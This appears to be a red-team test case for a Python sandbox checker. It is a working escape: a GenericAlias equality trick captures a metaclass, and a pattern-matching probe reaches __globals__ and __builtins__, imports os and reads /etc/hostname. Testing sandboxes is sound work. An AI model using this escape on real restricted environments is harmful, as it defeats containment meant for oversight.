# family: red team, round 8 (generic_alias_eq_class_capture)
# type(x) as a subscript key is exempt from the value rule when the subscripted name is a class/module
# (collections.UserList here). The resulting GenericAlias compares its args element-wise, so
# UserList[type(k)] == UserList[spy] calls spy.__eq__(type(k)): the tool gets the metaclass of a class.
import abc
import collections


class Base(abc.ABC):
    pass


class Spy:
    def __init__(self):
        self.seen = []

    def __eq__(self, other):
        self.seen.append(other)
        return True

    __hash__ = None


def _d(word):
    u = "_"
    return u + u + word + u + u


def class_of(k):
    spy = Spy()
    collections.UserList[type(k)] == collections.UserList[spy]
    return spy.seen[0]


def read(obj, attribute):
    meta = class_of(Base)
    probe = meta("Probe", (), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return class_of(Base).__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
